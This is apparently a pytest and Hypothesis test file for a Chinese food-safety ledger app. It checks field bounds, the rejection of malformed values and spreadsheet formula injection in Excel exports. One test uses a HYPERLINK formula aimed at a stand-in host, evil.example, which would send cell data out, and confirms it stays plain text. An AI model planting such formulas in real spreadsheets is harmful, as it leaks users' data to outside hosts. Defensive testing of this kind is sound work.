"""Bounds declared once per field (issue 15): every form, importer and
service refuses, with the field's name, what its column cannot hold on
PostgreSQL — and what passes is stored alike on SQLite and PostgreSQL."""

from __future__ import annotations

import datetime as dt
from decimal import Decimal

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import Integer, Numeric, String, func, inspect, select
from stdnum.cn import uscc

import app.ledgers as ledgers
from app.errors import ValidationError
from app.ledgers import bounds
from app.models import AuditEntry, Customer, Enterprise, IncomingInspection, Material, MaterialLot
from app.reports.inspection import export_inspection
from app.reports.ledger_export import export_ledger, export_template
from app.reports.sheet import TITLE_ROW
from app.reports.trace_sheet import export_trace
from app.services import common, entry, receiving
from app.services.trace import trace
from tests.unit import builders as b

LEDGERS = sorted(ledgers.registry().values(), key=lambda lg: lg.key)
FAST = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])

HOSTILE = st.one_of(
    st.sampled_from(["1e400", "-1e400", "Infinity", "-inf", "NaN", "sNaN", "1e25", "10000000000000000000000000",
                     "1e999999999", "0.0001", "12.3456", "0001-01-01", "0001-01-01 00:00", "9999-12-31",
                     "2026-11-22T08:30+08:00", "x" * 10000, "a\x00b", "\x1b[31m", "\ud800", "91110108ma01"]),
    st.integers(min_value=-10**40, max_value=10**40),
    st.floats(),
    st.decimals(allow_nan=True),
    st.dates(),
    st.datetimes(),
    st.text(max_size=40),
    st.text(min_size=150, max_size=300),
)


def column_of(lg, name: str):
    return inspect(lg.model).columns[name]


def fits_column(value: object, column) -> str | None:
    """An independent check of what PostgreSQL's column accepts, and of the plausible dates."""
    kind = column.type
    if isinstance(value, str):
        if "\x00" in value:
            return "NUL"
        if isinstance(kind, String) and kind.length and len(value) > kind.length:
            return "too long"
    if isinstance(value, Decimal) and isinstance(kind, Numeric):
        if not value.is_finite():
            return "not finite"
        sign, digits, exponent = value.normalize().as_tuple() if value else (0, (0,), 0)
        if -exponent > kind.scale or len(digits) + exponent > kind.precision - kind.scale:
            return "does not fit Numeric"
    if isinstance(value, int) and not isinstance(value, bool) and isinstance(kind, Integer):
        if not -(2**31) <= value < 2**31:
            return "does not fit a 32-bit integer"
    if isinstance(value, (dt.date, dt.datetime)):
        day = value.date() if isinstance(value, dt.datetime) else value
        if not dt.date(1900, 1, 1) <= day <= dt.date(2200, 12, 31):
            return "implausible date"
        if isinstance(value, dt.datetime) and value.tzinfo is not None:
            return "time zone"
    return None


@pytest.mark.parametrize("lg", LEDGERS, ids=[lg.key for lg in LEDGERS])
@FAST
@given(data=st.data())
def test_every_field_refuses_by_name_or_keeps_a_value_its_column_holds(lg, data):
    f = data.draw(st.sampled_from(list(lg.fields)), label="field")
    raw = data.draw(HOSTILE, label="raw")
    try:
        cleaned = lg.clean({f.name: raw}, partial=True)
    except ValidationError as error:
        assert [e.field for e in error.errors] == [f.name]
        assert error.errors[0].label == f.label and f"「{f.label}」" in error.message
        return
    assert fits_column(cleaned[f.name], column_of(lg, f.name)) is None, (f.name, raw, cleaned[f.name])


@pytest.mark.parametrize(("key", "name", "raw", "reason"), [
    ("incoming_inspection", "quantity", "1e400", "「数量」数值过大"),
    ("incoming_inspection", "quantity", float("inf"), "「数量」应为数字"),
    ("incoming_inspection", "quantity", "NaN", "「数量」应为数字"),
    ("incoming_inspection", "quantity", "123456789012", "「数量」不能大于 99999999999.999"),
    ("incoming_inspection", "quantity", "1.2345", "「数量」最多 3 位小数"),
    ("material", "shelf_life_days", 10**25, "「保质期（天）」不能大于 36500"),
    ("material", "shelf_life_days", "1e999999999", "「保质期（天）」数值过大"),
    ("incoming_inspection", "receipt_date", "0001-01-01", "「进货日期」应在 1900 年至 2200 年之间（现在是 0001 年）"),
    ("ccp_reading", "measured_at", "2026-11-22T08:30+08:00", "「监控时间」不能带时区"),
    ("customer", "address", "路" * 10000, "「地址」最多 200 个字符，现在是 10000 个"),
    ("process_record", "description", "x" * 20001, "「过程记录」最多 20000 个字符"),
    ("customer", "name", "联华\x00超市", "「购货者名称」含有不可见的控制字符"),
    ("storage_condition_record", "temperature_c", "-300", "「温度（℃）」不能小于 -273.15"),
    ("storage_condition_record", "humidity_pct", "101", "「湿度（%RH）」不能大于 100"),
    ("formula_item", "proportion", "250", "「配比（%）」不能大于 100"),
    ("enterprise", "credit_code", "91310115MA1K4F8L3X", "「统一社会信用代码」校验位不正确"),
])
def test_named_hostile_values(key, name, raw, reason):
    lg = ledgers.ledger(key)
    with pytest.raises(ValidationError) as refused:
        lg.clean({name: raw}, partial=True)
    assert reason in refused.value.message
    assert refused.value.errors[0].field == name


def test_codes_are_kept_upper_case_without_spaces():
    code = b.credit_code("91310115MA1K4F8L3")
    typed = " " + code.lower()[:9] + " " + code.lower()[9:]
    assert ledgers.ledger("customer").clean({"credit_code": typed}, partial=True) == {"credit_code": code}
    full_width = code.translate({ord(c): ord(c) + 0xFEE0 for c in "0123456789"})  # typed with a Chinese IME
    assert ledgers.ledger("supplier").clean({"credit_code": full_width}, partial=True) == {"credit_code": code}
    assert uscc.is_valid(code)


def test_bounds_come_from_the_model_columns():
    """Written once: a String(40) column gives its field 40 characters, a
    Numeric(14, 3) three decimals, and a declaration only narrows them."""
    for lg in LEDGERS:
        for f in lg.fields:
            column = column_of(lg, f.name)
            from_column = bounds.of_column(column).tighter(
                bounds.Bounds(max_length=bounds.TEXT_MAX if f.kind in ("text", "longtext") else None))
            assert f.bounds.tighter(from_column) == f.bounds, (lg.key, f.name)
            if isinstance(column.type, String):
                assert f.bounds.max_length is not None
    assert ledgers.ledger("material").field("code").bounds.max_length == 40
    assert ledgers.ledger("material").field("shelf_life_days").bounds.high == 36500


def rows(session) -> tuple[int, ...]:
    return tuple(session.scalar(select(func.count(m.id))) for m in (IncomingInspection, MaterialLot, Material,
                                                                       Customer, AuditEntry))


HOSTILE_RECEIPTS = [
    {"quantity": "1e400"}, {"quantity": "Infinity"}, {"shelf_life_days": 10**25}, {"production_date": "0001-01-01"},
    {"supplier_lot": "L" * 10000}, {"spec": "a\x00b"}, {"remarks": "x" * 30000}, {"quantity": "0.0001"},
]


@pytest.mark.parametrize("bad", HOSTILE_RECEIPTS, ids=[next(iter(v)) + "-" + str(i) for i, v in enumerate(HOSTILE_RECEIPTS)])
def test_the_form_refuses_and_nothing_is_written(session, bad):
    """A receipt saved from its form (entry.save_new, what the dialog calls) on SQLite and PostgreSQL alike."""
    p = b.plant(session)
    before = rows(session)
    with pytest.raises(ValidationError) as refused:
        entry.save_new(session, "incoming_inspection", b.receipt_values(p, p.soy, **bad))
    name = next(iter(bad))
    assert [e.field for e in refused.value.errors] == [name]
    assert rows(session) == before


def test_values_at_the_bounds_are_kept_on_both_databases(session):
    """What the bounds let through, each database stores and gives back the same."""
    p = b.plant(session)
    receipt = receiving.receive(session, b.receipt_values(
        p, p.soy, quantity="99999999999.999", supplier_lot="L" * 40,
        production_date="1900-01-01", shelf_life_days=None, remarks="备" * 20000, spec="规" * 200))
    session.expire_all()
    again = session.get(IncomingInspection, receipt.id)
    assert again.quantity == Decimal("99999999999.999") and again.supplier_lot == "L" * 40
    assert again.production_date == dt.date(1900, 1, 1) and len(again.remarks) == 20000
    customer = common.create(session, "customer", dict(
        name="客" * 200, address="上海", phone="021-50000000", credit_code=b.credit_code("91310000MA1FL0001").lower()))
    session.expire_all()
    assert session.get(Customer, customer.id).credit_code == b.credit_code("91310000MA1FL0001")


# ------------------------------------------------------------------ formula injection

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A3,"点击")'


def title_cells(path) -> list:
    wb = openpyxl.load_workbook(path)
    return [(ws.title, ws.cell(TITLE_ROW, 1)) for ws in wb.worksheets]


def test_an_enterprise_name_like_a_formula_stays_text_in_every_title(session, tmp_path):
    p = b.plant(session)
    session.scalar(select(Enterprise)).name = HOSTILE_NAME
    soy = b.lot(session, p, p.soy)
    b.released_commodity(session, p, soy)
    session.flush()
    outputs = [tmp_path / name for name in ("ledger.xlsx", "template.xlsx", "inspection.xlsx", "trace.xlsx")]
    export_ledger(session, "incoming_inspection", outputs[0])
    export_template(session, "customer", outputs[1])
    export_inspection(session, ["incoming_inspection", "customer"], outputs[2], None, None)
    export_trace(session, trace(session, soy.lot_no, "forward"), outputs[3])
    for path in outputs:
        for sheet, cell in title_cells(path):
            assert cell.data_type == "s", (path.name, sheet)
            assert cell.value.startswith(HOSTILE_NAME), (path.name, sheet)


def test_a_service_writing_past_a_column_is_stopped_at_the_flush(session):
    """A value set directly, not through a form (a balance, a file name), is
    held to its column too: a message naming the field, nothing written."""
    p = b.plant(session)
    before = rows(session)
    savepoint = session.begin_nested()
    p.soy.code = "M" * 41  # String(40)
    with pytest.raises(ValidationError, match="「物料编码」最多 40 个字符"):
        session.flush()
    savepoint.rollback()
    savepoint = session.begin_nested()
    session.add(Material(code="M9", name="水", category="water", unit="kg", shelf_life_days=10**12))
    with pytest.raises(ValidationError, match="「保质期（天）」不能大于 2147483647"):
        session.flush()
    savepoint.rollback()
    assert rows(session) == before
